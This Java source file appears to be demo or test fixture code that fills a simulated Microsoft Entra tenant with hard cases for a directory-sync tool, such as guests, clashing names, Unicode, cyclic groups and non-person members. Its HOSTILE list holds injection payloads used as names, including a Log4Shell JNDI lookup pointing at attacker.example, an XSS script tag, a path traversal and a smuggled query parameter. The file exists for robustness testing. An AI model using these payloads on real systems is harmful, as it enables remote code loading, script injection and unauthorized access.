package dev.roster.demo.graph;

import java.util.List;

/** What makes real tenants hard: clashing and hostile names, guests, cycles, members that are no people. */
final class DemoOddities {

    /** Names that would be dangerous if they ever became part of an address, a path or an expression. */
    static final List<String> HOSTILE = List.of(
            "x?httpMethod=DELETE&y=", "../../admin", "${jndi:ldap://attacker.example/a}", "<script>alert(1)</script>");

    private static final int LONGEST_DISPLAY_NAME = 256;

    private final SimulatedTenant tenant;
    private final SimulatedGroup jiraUsers;

    private DemoOddities(SimulatedTenant tenant) {
        this.tenant = tenant;
        this.jiraUsers = tenant.groupNamed("jira-users");
    }

    static void addTo(SimulatedTenant tenant) {
        DemoOddities oddities = new DemoOddities(tenant);
        oddities.guests();
        oddities.clashingPeople();
        oddities.oddPeople();
        oddities.hostileNames();
        oddities.clashingAndOddGroups();
        oddities.nesting();
        oddities.otherMembers();
    }

    private void guests() {
        for (int i = 1; i <= 12; i++) {
            String home = "guest" + i + "_partner.example#EXT#";
            user(SimulatedPerson.of(tenant.nextId(), home + "@contoso.onmicrosoft.com", "Guest " + i + " (Partner)")
                    .withMail("guest" + i + "@partner.example")
                    .withMailNickname(home)
                    .withUserType(SimulatedPerson.GUEST)
                    .withOtherMails(List.of("guest" + i + "@partner.example")));
        }
    }

    /** Two people of two domains whose usernames differ in case only. */
    private void clashingPeople() {
        user(SimulatedPerson.of(tenant.nextId(), "m.weber@" + DemoTenant.DOMAIN, "Maria Weber")
                .withOnPremisesSamAccountName("m.weber"));
        user(SimulatedPerson.of(tenant.nextId(), "M.Weber@emea." + DemoTenant.DOMAIN, "Markus Weber")
                .withOnPremisesSamAccountName("M.Weber"));
    }

    private void oddPeople() {
        user(SimulatedPerson.of(tenant.nextId(), "tara.o'hara@" + DemoTenant.DOMAIN, "Tara O'Hara")
                .withMailNickname("tara.o'hara"));
        user(SimulatedPerson.of(tenant.nextId(), "ops+jira@" + DemoTenant.DOMAIN, "Ops + Jira"));
        user(SimulatedPerson.of(tenant.nextId(), "no.mail@" + DemoTenant.DOMAIN, "No Mail")
                .withMail(null)
                .withMailNickname(null));
        user(SimulatedPerson.of(tenant.nextId(), "long.name@" + DemoTenant.DOMAIN, filled("Long Name ")));
        user(SimulatedPerson.of(tenant.nextId(), "eva.right@" + DemoTenant.DOMAIN, "Eva \u202Egnp.tfel"));
        user(SimulatedPerson.of(tenant.nextId(), "shiro@" + DemoTenant.DOMAIN, "白井 さくら 🌸"));
        user(SimulatedPerson.of(tenant.nextId(), "blank@" + DemoTenant.DOMAIN, "  two  blanks  "));
    }

    private void hostileNames() {
        for (int i = 0; i < HOSTILE.size(); i++) {
            SimulatedPerson person =
                    user(SimulatedPerson.of(tenant.nextId(), "hostile" + i + "@" + DemoTenant.DOMAIN, HOSTILE.get(i))
                            .withOnPremisesSamAccountName(HOSTILE.get(i)));
            SimulatedGroup group = tenant.addGroup("team-" + HOSTILE.get(i));
            tenant.addMember(group.id(), person.id());
        }
    }

    private void clashingAndOddGroups() {
        SimulatedGroup alpha = tenant.addGroup("team-alpha");
        SimulatedGroup otherAlpha = tenant.addGroup("team-alpha");
        tenant.addMember(alpha.id(), person("anna.muller").id());
        tenant.addMember(otherAlpha.id(), person("tara.o'hara").id());
        tenant.addGroup("confluence-nobody");
        SimulatedGroup quoted = tenant.addGroup("team-a/b 100% \"core\" it's");
        tenant.addMember(quoted.id(), person("tara.o'hara").id());
        SimulatedGroup longest = tenant.addGroup(filled("team-long-"));
        tenant.addMember(longest.id(), person("long.name").id());
        SimulatedGroup hidden = tenant.add(SimulatedGroup.microsoft365(tenant.nextId(), "team-hidden")
                .withSecurityEnabled(true)
                .withVisibility(SimulatedGroup.HIDDEN_MEMBERSHIP));
        tenant.addMember(hidden.id(), person("shiro").id());
    }

    /** Two groups that hold each other, and a chain of three. */
    private void nesting() {
        SimulatedGroup chicken = tenant.addGroup("team-chicken");
        SimulatedGroup egg = tenant.addGroup("team-egg");
        tenant.addMember(chicken.id(), egg.id());
        tenant.addMember(egg.id(), chicken.id());
        tenant.addMember(egg.id(), person("ops+jira").id());
        SimulatedGroup outer = tenant.addGroup("confluence-guests");
        SimulatedGroup middle = tenant.addGroup("Partners");
        SimulatedGroup inner = tenant.addGroup("Partners, external");
        tenant.addMember(outer.id(), middle.id());
        tenant.addMember(middle.id(), inner.id());
        tenant.addMember(
                inner.id(),
                tenant.person("guest1_partner.example#EXT#@contoso.onmicrosoft.com")
                        .orElseThrow()
                        .id());
    }

    private void otherMembers() {
        List<SimulatedThing> things = List.of(
                SimulatedThing.device(tenant.nextId(), "LAPTOP-0815"),
                SimulatedThing.orgContact(tenant.nextId(), "Reception of the partner"),
                SimulatedThing.servicePrincipal(tenant.nextId(), "Build server"));
        things.forEach(thing -> tenant.addMember(
                tenant.groupNamed("jira-developers").id(), tenant.add(thing).id()));
    }

    private SimulatedPerson user(SimulatedPerson person) {
        tenant.add(person);
        tenant.addMember(jiraUsers.id(), person.id());
        return person;
    }

    private SimulatedPerson person(String login) {
        return tenant.person(login + "@" + DemoTenant.DOMAIN).orElseThrow();
    }

    /** The longest display name that Entra takes, one more than what products hold. */
    private static String filled(String start) {
        return start + "x".repeat(LONGEST_DISPLAY_NAME - start.length());
    }
}
